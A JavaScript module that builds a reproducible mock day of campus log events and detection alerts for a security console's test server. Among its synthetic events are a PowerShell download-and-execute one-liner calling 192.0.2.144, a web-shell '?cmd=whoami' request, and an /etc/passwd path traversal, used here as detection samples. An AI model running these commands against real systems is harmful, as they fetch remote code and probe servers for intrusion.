// SPDX-License-Identifier: Apache-2.0
// An invented campus day: events of a few sources, and the alerts some of them raise. The same on every run,
// except that it ends now.

const DAY_MS = 86_400_000;
const EVENTS = 6000;

/** A small generator (mulberry32), so that the day is the same every time. */
function randomFrom(seed) {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let t = Math.imul(state ^ (state >>> 15), 1 | state);
    t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}

const random = randomFrom(20260301);
const pick = (list) => list[Math.floor(random() * list.length)];

const INSIDE = ['10.10.3.21', '10.10.3.77', '10.20.8.14', '10.20.8.201', '2001:db8:10::45'];
const OUTSIDE = ['203.0.113.7', '203.0.113.66', '198.51.100.23', '192.0.2.144', '198.51.100.200'];
const USERS = ['zhang.wei', 'li.na', 'root', 'backup', 'wang.fang'];
const WEB = ['web-jwc', 'web-portal', 'web-lib'];
const two = (n) => String(n).padStart(2, '0');

function syslogTime(time) {
  const d = new Date(time);
  const month = ['Jan', 'Feb', 'Mar', 'Apr', 'May', 'Jun', 'Jul', 'Aug', 'Sep', 'Oct', 'Nov', 'Dec'][
    d.getUTCMonth()
  ];
  const clock = `${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())}`;
  return `${month} ${String(d.getUTCDate()).padStart(2)} ${clock}`;
}

function sshFailure(time, ip = pick(OUTSIDE), user = pick(USERS)) {
  const port = 20000 + Math.floor(random() * 40000);
  const message = `Failed password for ${user} from ${ip} port ${port} ssh2`;
  return {
    raw: `<38>${syslogTime(time)} bastion-01 sshd[2114]: ${message}`,
    fields: {
      'event.dataset': 'openssh',
      'event.category': 'authentication',
      'event.outcome': 'failure',
      'host.name': 'bastion-01',
      'process.name': 'sshd',
      'process.pid': 2114,
      'source.ip': ip,
      'source.port': port,
      'user.name': user,
      message,
    },
  };
}

function access(
  time,
  path = pick(['/', '/news/2026/0301.htm', '/api/course?page=2', '/static/app.css']),
  ip,
) {
  const host = pick(WEB);
  const source = ip ?? pick([...INSIDE, ...OUTSIDE]);
  const status = path.includes('passwd') ? 404 : pick([200, 200, 200, 304, 502]);
  const stamp = new Date(time).toISOString();
  return {
    raw: `${source} - - [${stamp}] "GET ${path} HTTP/1.1" ${status} 5120 "-" "Mozilla/5.0"`,
    fields: {
      'event.dataset': 'nginx_access',
      'event.category': 'web',
      'host.name': host,
      'source.ip': source,
      'destination.ip': '10.1.1.80',
      'http.request.method': 'GET',
      'http.response.status_code': status,
      'url.path': path,
      message: `GET ${path} ${status}`,
    },
  };
}

function sudo(time, command = '/usr/bin/systemctl restart nginx') {
  const user = pick(USERS);
  const message = `${user} : TTY=pts/1 ; PWD=/home/${user} ; USER=root ; COMMAND=${command}`;
  return {
    raw: `<85>${syslogTime(time)} db-xsc sudo: ${message}`,
    fields: {
      'event.dataset': 'sudo',
      'event.category': 'process',
      'host.name': 'db-xsc',
      'user.name': user,
      'user.effective.name': 'root',
      'process.command_line': command,
      message,
    },
  };
}

function windows(time, command = 'powershell.exe -NoProfile -File C:\\ops\\inventory.ps1') {
  const host = pick(['WIN-CW-03', 'WIN-LIB-11']);
  const user = pick(USERS);
  const event = {
    '@timestamp': new Date(time).toISOString(),
    Channel: 'Security',
    EventID: 4688,
    Hostname: host,
  };
  return {
    raw: JSON.stringify({ ...event, CommandLine: command, SubjectUserName: user }),
    fields: {
      'event.dataset': 'windows_winlogbeat',
      'event.code': '4688',
      'event.category': 'process',
      'host.name': host,
      'user.name': user,
      'process.executable': 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
      'process.command_line': command,
      message: `A new process has been created: ${command}`,
    },
    attributes: [
      { name: 'TokenElevationType', value: '%%1936' },
      { name: 'SubjectLogonId', value: '0x3e7' },
    ],
  };
}

function unparsed(time) {
  const text = `device-17 ~~ heartbeat ${time % 100000} ok`;
  return { raw: text, fields: { 'event.kind': 'unparsed', 'observer.ip': '10.9.0.17', message: text } };
}

const ORDINARY = [sshFailure, access, access, access, sudo, windows, access, unparsed];

export const RULES = [
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e01',
    title: 'Web shell command passed to an uploaded script',
    titleZh: '上传的脚本收到命令参数',
    level: 'critical',
    tactics: ['persistence', 'initial-access'],
    techniques: ['T1505.003'],
    make: (time) => access(time, '/upload/2026/a.php?cmd=whoami', '203.0.113.66'),
    tests: [
      ['selection_query', 'url.path', '*?cmd=*'],
      ['selection_method', 'http.request.method', 'GET'],
    ],
    often: 2,
  },
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e02',
    title: 'SSH password guessing from one address',
    titleZh: '同一地址猜测 SSH 口令',
    level: 'high',
    tactics: ['credential-access'],
    techniques: ['T1110.001'],
    make: (time) => sshFailure(time, '203.0.113.7', 'root'),
    tests: [
      ['selection', 'event.outcome', 'failure'],
      ['keywords', null, '*Failed password*'],
    ],
    often: 19,
  },
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e03',
    title: 'PowerShell download and execution in one line',
    titleZh: 'PowerShell 下载并执行',
    level: 'high',
    tactics: ['execution', 'command-and-control'],
    techniques: ['T1059.001', 'T1105'],
    make: (time) =>
      windows(
        time,
        'powershell -w hidden -c "IEX (New-Object Net.WebClient).DownloadString(\'http://192.0.2.144/a\')"',
      ),
    tests: [
      ['selection_img', 'process.executable', '*\\\\powershell.exe'],
      ['selection_cli', 'process.command_line', '*DownloadString*'],
      ['selection_cli', 'process.command_line', '*IEX*'],
    ],
    often: 6,
  },
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e04',
    title: 'Path traversal in a web request',
    titleZh: 'Web 请求中的路径穿越',
    level: 'medium',
    tactics: ['initial_access', 'discovery'],
    techniques: ['T1190'],
    make: (time) => access(time, '/download?file=../../../../etc/passwd', '198.51.100.23'),
    tests: [['selection', 'url.path', '*../../*/passwd*']],
    often: 47,
  },
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e05',
    title: 'Shell started through sudo',
    titleZh: '通过 sudo 启动 Shell',
    level: 'low',
    tactics: ['privilege-escalation'],
    techniques: ['T1548.003'],
    make: (time) => sudo(time, '/bin/bash'),
    tests: [['selection', 'process.command_line', '/bin/bash']],
    often: 31,
  },
  {
    id: '6b0c2f4e-1d1a-4c7b-9a55-0d7a0f2c1e06',
    title: 'Web scanner by its user agent',
    level: 'informational',
    tactics: ['reconnaissance'],
    techniques: ['T1595.002'],
    make: (time) => access(time, '/phpmyadmin/', '198.51.100.200'),
    tests: [['selection', 'url.path', '/phpmyadmin/*']],
    often: 80,
  },
];

const yamlOf = (rule) => `title: ${rule.title}
id: ${rule.id}
status: test
description: Invented for the console's mock server.
logsource:
    category: webserver
detection:
    selection:
        cs-uri-query|contains: 'cmd='
    condition: selection
level: ${rule.level}
tags:
${rule.tactics.map((tactic) => `    - attack.${tactic}`).join('\n')}
${rule.techniques.map((technique) => `    - attack.${technique.toLowerCase()}`).join('\n')}
`;

/** As the detector explains a match: the condition, and of each selection whether and by what it holds. */
function whyOf({ tests }, { fields }) {
  const names = [...new Set(tests.map(([name]) => name))];
  const match = ([, field, pattern]) => ({ field, value: String(fields[field ?? 'message']), pattern });
  const matches = (name) => tests.filter(([selection]) => selection === name).map(match);
  const selections = names.map((name) => ({ name, holds: true, matches: matches(name) }));
  selections.push({ name: 'filter_known', holds: false, matches: [] });
  return { condition: `${names.join(' and ')} and not filter_known`, selections };
}

/** More in working hours, as on a campus. */
function timeOfDay(now) {
  const time = now - Math.floor(random() * DAY_MS);
  const hour = (new Date(time).getUTCHours() + 8) % 24;
  return hour < 7 && random() < 0.7 ? now - Math.floor(random() * DAY_MS) : time;
}

const toEvent = (seq, time, made, drill) => ({
  seq: String(seq),
  time: new Date(time).toISOString().replace('Z', '417Z'),
  drill,
  received: new Date(time + 210).toISOString(),
  peer: made.fields['host.name'] ? '10.9.0.4' : '10.9.0.17',
  raw: made.raw,
  fields: { '@timestamp': new Date(time).toISOString(), ...made.fields },
  attributes: made.attributes ?? [],
});

function toAlert(event, rule, index) {
  const { fields } = event;
  return {
    id: `a${event.seq}-${rule.id.slice(-2)}`,
    time: event.time,
    detected: event.received,
    level: rule.level,
    rule_id: rule.id,
    rule_title: rule.title,
    rule_title_zh: rule.titleZh,
    repeats: index % 6 === 1 ? 37 * index : 0,
    last: index % 6 === 1 ? new Date(Date.parse(event.time) + 1_860_000).toISOString() : undefined,
    status: index % 7 === 3 ? 'acknowledged' : index % 5 === 4 ? 'closed' : 'new',
    drill: event.drill,
    event_seq: event.seq,
    source: fields['event.dataset'],
    host: fields['host.name'],
    user: fields['user.name'],
    source_ip: fields['source.ip'],
    destination_ip: fields['destination.ip'],
    tactics: rule.tactics,
    techniques: rule.techniques,
    rule_yaml: yamlOf(rule),
    rule_description: 'Looks for what attackers do at this stage; see the matched fields below.',
    why: whyOf(rule, event),
    history: [],
    event,
  };
}

/** Events and alerts, newest first. */
export function makeDay(now = Date.now()) {
  const plain = Array.from({ length: EVENTS }, () => ({ time: timeOfDay(now), rule: undefined }));
  const attacks = RULES.flatMap((rule) =>
    Array.from({ length: rule.often }, () => ({ time: timeOfDay(now), rule })),
  );
  const all = [...plain, ...attacks].sort((a, b) => a.time - b.time);
  const alerts = [];
  const events = all.map(({ time, rule }, i) => {
    const made = rule ? rule.make(time) : pick(ORDINARY)(time);
    const event = toEvent(100000 + i, time, made, rule !== undefined && i % 4 === 0);
    if (rule) alerts.push(toAlert(event, rule, alerts.length));
    return event;
  });
  return { events: events.reverse(), alerts: alerts.reverse() };
}
